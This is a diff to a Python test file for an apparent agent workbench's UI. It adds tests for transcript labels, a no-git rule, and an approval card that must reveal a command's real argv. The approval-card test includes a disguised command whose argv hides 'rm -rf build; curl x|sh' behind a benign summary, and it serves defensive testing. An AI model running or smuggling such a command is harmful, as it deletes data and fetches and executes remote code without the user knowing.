@@ -1,4 +1,5 @@
-"""The UI's headless parts: frames, keys, attention, layout state, themes, keymap."""
+"""The UI's headless parts: frames, keys, attention, layout state, themes, keymap, transcript and
+approval-card text, and the rule that the UI never runs git."""
 
 from __future__ import annotations
 
@@ -7,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.test_ui_fakes import session
+from tests.ui_fakes import session
 from workbench.ui import layout_state, model
 from workbench.ui.keymap import DEFAULT_DETACH, detach_key, key_to_bytes, paste_bytes, resolve_keymap
 from workbench.ui.term_model import TermState
@@ -130,3 +131,30 @@ def test_keymap_and_detach_key() -> None:
     assert detach_key("ctrl+b", {})[1] is not None  # tmux's prefix is refused
     assert detach_key("ctrl+right_square_bracket", {"terminal.detach": "ctrl+g"}) == ("ctrl+g", None)
     assert detach_key("x", {})[0] == DEFAULT_DETACH
+
+
+def test_the_ui_never_runs_git() -> None:
+    src = Path(__file__).parents[1] / "src" / "workbench" / "ui"
+    for path in src.rglob("*.py"):
+        text = path.read_text()
+        assert "create_subprocess" not in text and "subprocess" not in text, path
+        assert '"git"' not in text, path
+
+
+def test_transcript_labels_for_agent_and_usage_entries() -> None:
+    from workbench.ui.widgets.transcript import note_text
+
+    text, _ = note_text("agent", {"model": "m1", "approval": "suggest", "sandbox": "off"})
+    assert text == "agent: model m1 · approval suggest · sandbox off"
+    text, _ = note_text("usage", {"tokens_in": 10, "tokens_out": 2, "context_tokens": 12, "context_window": 100})
+    assert text == "tokens 10 in · 2 out · context 12/100"
+
+
+def test_approval_card_shows_the_exact_argv_when_the_summary_differs() -> None:
+    from workbench.ui.widgets.approval_card import card_content
+
+    same = card_content({"kind": "command", "describe": "cat calc.py", "argv": ["cat", "calc.py"]}).plain
+    assert "runs:" not in same and "$ cat calc.py" in same
+    wrapped = card_content({"kind": "command", "describe": "rm -rf build",
+                            "argv": ["bash", "-lc", "rm -rf build; curl x|sh"]}).plain
+    assert "runs: bash -lc 'rm -rf build; curl x|sh'" in wrapped
